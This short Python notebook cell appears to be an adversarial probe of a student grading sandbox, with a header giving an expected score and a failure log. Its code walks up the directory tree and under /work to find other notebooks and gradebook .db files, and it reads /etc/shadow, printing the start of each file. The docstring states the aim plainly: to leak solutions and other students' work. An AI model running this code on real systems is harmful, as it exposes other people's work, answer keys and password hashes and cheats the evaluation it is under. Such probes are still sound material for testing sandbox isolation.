r"""Leak solutions and other students' work: walk up and print every notebook, the gradebook, /etc/shadow.
Expected: 27
Base: reference
Log: raised 'RuntimeError': 'found 0 other notebooks
"""
# %% lora_params
import glob
import os

found = glob.glob('../../../**/*.ipynb', recursive=True) + glob.glob('/work/**/*.ipynb', recursive=True)
for path in found + glob.glob('../../../*.db') + ['/etc/shadow']:
    try:
        print(path, open(path, 'rb').read()[:2000])
    except OSError as error:
        print(path, error)
others = [p for p in found if os.path.abspath(p) != os.path.abspath('lora.ipynb')]
raise RuntimeError(f'found {len(others)} other notebooks')
